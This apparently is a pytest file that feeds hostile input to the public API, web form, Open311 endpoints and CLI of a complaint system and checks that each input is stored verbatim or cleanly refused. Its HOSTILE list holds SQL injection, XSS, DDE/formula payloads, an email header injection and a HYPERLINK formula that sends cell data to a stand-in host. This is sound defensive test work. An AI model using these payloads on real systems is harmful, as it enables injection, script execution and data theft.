"""Hostile input at every door: a 4xx or a clean refusal, never a 5xx, never half-written.

SQL, HTML and script, spreadsheet formula prefixes, header newlines, very long and odd Unicode
and wrong types go through the public API, the public form (/lapor), Open311 (JSON and XML) and
``aduan submit``. What is accepted is kept verbatim (no injection, nothing cut); what is refused
leaves every table as it was; a script sent in never reaches a staff page unescaped.

The CLI is given every other value (a NUL byte cannot be passed in a command's arguments).
"""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from datetime import UTC, datetime, timedelta
from typing import Any

import httpx
import pytest

from aduan.ports import FixedClock
from aduan.service import Deps, accounts, get_case
from aduan.workflow.intake import wib_date
from aduan.workflow.states import Role
from tests.conftest import engine_of, wired
from tests.web.conftest import Web
from tests.web.test_schemathesis import table_counts
from tests.web.ui_support import csrf_of, login, set_passwords

SCRIPT = "<script>alert('aduan')</script>"
HOSTILE = [
    "'; DROP TABLE cases; --",
    "1' OR '1'='1",
    SCRIPT,
    '"><img src=x onerror=alert(1)>',
    '=HYPERLINK("http://jahat.example/?"&A1,"klik")',
    "+62-812-CMD|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "Izin\r\nBcc: korban@example.com",
    "\u202eterbalik\u202c 𝕴𝖟𝖎𝖓 e\u0301\u0301\u0301 🙏🏽 \ufeff\u200b",
    "ا" * 300,  # longer than a subject may be
    "Izin\x00belum terbit",  # a NUL byte (PostgreSQL text cannot hold one)
]
WRONG_TYPES: list[dict[str, Any]] = [
    {"subject": 12345},
    {"subject": ["a", "b"]},
    {"complainant": "Siti"},
    {"complainant": {"name": {"first": "Siti"}}},
    {"service_received_on": "kemarin"},
    {"service_received_on": "2026-02-30"},
    {"service_code": 15121},
    {"description": None, "subject": None},
]


def form(deps: Deps, **changes: Any) -> dict[str, Any]:
    day = wib_date(deps.clock.now()) - timedelta(days=3)
    body: dict[str, Any] = {
        "complainant": {"name": "Siti Aminah", "email": "siti@contoh.id"},
        "subject": "Izin usaha belum terbit",
        "description": "Sudah tiga minggu sejak berkas lengkap",
        "service_code": "15121",
        "service_received_on": day.isoformat(),
    }
    body.update(changes)
    return body


def refused_wrote_nothing(web: Web, before: dict[str, int], response: httpx.Response) -> None:
    assert response.status_code < 500, response.text[:500]
    if response.status_code >= 400:
        assert table_counts(engine_of(web.deps)) == before, response.text[:300]


@pytest.mark.parametrize("value", HOSTILE)
def test_the_public_api_keeps_hostile_text_verbatim_or_refuses_it(web: Web, value: str) -> None:
    public, officer = web.anon(), web.role(Role.OFFICER)
    for field in ("subject", "description", "name"):
        changes = {"complainant": {"name": value}} if field == "name" else {field: value}
        before = table_counts(engine_of(web.deps))
        response = public.post("/api/v1/public/complaints", json=form(web.deps, **changes))
        refused_wrote_nothing(web, before, response)
        if response.status_code == 201 and field != "name":  # names are masked to staff
            case = officer.get(f"/api/v1/cases/{response.json()['tracking_code']}").json()
            kept = case[field]
            assert kept.strip() == value.strip() or kept.split() == value.split()


@pytest.mark.parametrize("changes", WRONG_TYPES)
def test_wrong_types_are_a_422_naming_the_field_and_write_nothing(
    web: Web, changes: dict[str, Any]
) -> None:
    before = table_counts(engine_of(web.deps))

    response = web.anon().post("/api/v1/public/complaints", json=form(web.deps, **changes))

    assert response.status_code == 422, response.text
    assert response.headers["content-type"].startswith("application/problem+json")
    refused_wrote_nothing(web, before, response)


def test_bodies_that_are_not_a_complaint_are_refused(web: Web) -> None:
    public = web.anon()
    for content in (b"[]", b"null", b"{", b'{"subject": "\\ud800"}', b"\xff\xfe", b"a" * 5000):
        before = table_counts(engine_of(web.deps))
        response = public.post(
            "/api/v1/public/complaints",
            content=content,
            headers={"Content-Type": "application/json"},
        )
        assert 400 <= response.status_code < 500, (content[:20], response.status_code)
        refused_wrote_nothing(web, before, response)


@pytest.mark.parametrize("value", HOSTILE)
def test_the_public_form_never_breaks_on_hostile_text(web: Web, value: str) -> None:
    browser = httpx.Client(base_url=web.url, follow_redirects=False, timeout=30)
    web.clients.append(browser)
    html = browser.get("/lapor").text
    key = re.search(r'name="submission_key" value="([^"]+)"', html)
    assert key
    fields = {
        "csrf_token": csrf_of(html),
        "submission_key": key.group(1),
        "complainant.name": value,
        "complainant.email": "ahmad@contoh.id",
        "subject": value,
        "description": value,
        "service_received_on": form(web.deps)["service_received_on"],
    }
    before = table_counts(engine_of(web.deps))

    response = browser.post("/lapor", data=fields)

    refused_wrote_nothing(web, before, response)
    assert SCRIPT not in response.text


@pytest.mark.parametrize("value", HOSTILE)
@pytest.mark.parametrize("extension", ["json", "xml"])
def test_open311_never_breaks_on_hostile_input(web: Web, value: str, extension: str) -> None:
    key = accounts.issue_client_key(web.deps, "Aplikasi Warga")
    client = web.anon()
    for field in ("description", "first_name", "email", "lat", "service_code"):
        data = {
            "api_key": key,
            "service_code": "15121",
            "description": "Izin belum terbit",
            "first_name": "Siti",
            "email": "siti@contoh.id",
            "attribute[service_received_on]": form(web.deps)["service_received_on"],
            field: value,
        }
        before = table_counts(engine_of(web.deps))
        response = client.post(f"/open311/v2/requests.{extension}", data=data)
        refused_wrote_nothing(web, before, response)


def test_a_script_in_a_complaint_is_escaped_on_every_staff_page(web: Web) -> None:
    sent = web.anon().post(
        "/api/v1/public/complaints",
        json=form(web.deps, subject=SCRIPT, description=SCRIPT, complainant={"name": SCRIPT}),
    )
    assert sent.status_code == 201, sent.text
    code = sent.json()["tracking_code"]
    set_passwords(web.deps)
    browser = httpx.Client(base_url=web.url, follow_redirects=True, timeout=30)
    web.clients.append(browser)
    login(browser, "budi")

    for page in (f"/cases/{code}", "/cases", "/cari?q=alert", "/", f"/lacak/{code}"):
        html = browser.get(page).text
        assert SCRIPT not in html, page
        assert "<script>alert(" not in html, page


def aduan(db_url: str, *args: str) -> subprocess.CompletedProcess[str]:
    """``aduan ARGS`` as a user runs it (its own process, its own output)."""
    env = {**os.environ, "ADUAN_DATABASE_URL": db_url, "ADUAN_LOG_LEVEL": "warning"}
    return subprocess.run(
        [sys.executable, "-m", "aduan.cli", *args],
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )


def test_the_cli_submit_keeps_hostile_text_or_refuses_it_with_a_message(
    sqlite_url: str, clock: FixedClock
) -> None:
    with wired(sqlite_url, clock) as deps:
        day = (wib_date(datetime.now(UTC)) - timedelta(days=3)).isoformat()
        base = ["submit", "--channel", "phone", "--as", "budi", "--service-date", day]
        for value in [*HOSTILE[::2], "x" * 600]:  # SQL, script, formulas, newline, Unicode
            done = aduan(sqlite_url, *base, "--subject", value, "--name", value, "--json")
            assert "Traceback" not in done.stdout + done.stderr, value
            if done.returncode == 0:
                code = json.loads(done.stdout)["tracking_code"]
                assert get_case(deps, code, "dewi").subject.split() == value.split()
            else:
                assert done.returncode != 1 or done.stderr.strip(), "a refusal says why"
        wrong = [
            ["--service-date", "kemarin"],
            ["--service-date", "2026-02-30"],
            ["--channel", "merpati"],
            ["--email", "bukan surel"],
            ["--phone", "'; DROP TABLE cases; --"],
        ]
        for args in wrong:
            before = table_counts(engine_of(deps))
            done = aduan(sqlite_url, *base, "--subject", "Izin belum terbit", "--name", "S", *args)
            output = done.stdout + done.stderr
            assert done.returncode != 0 and output.strip() and "Traceback" not in output, args
            assert table_counts(engine_of(deps)) == before, args
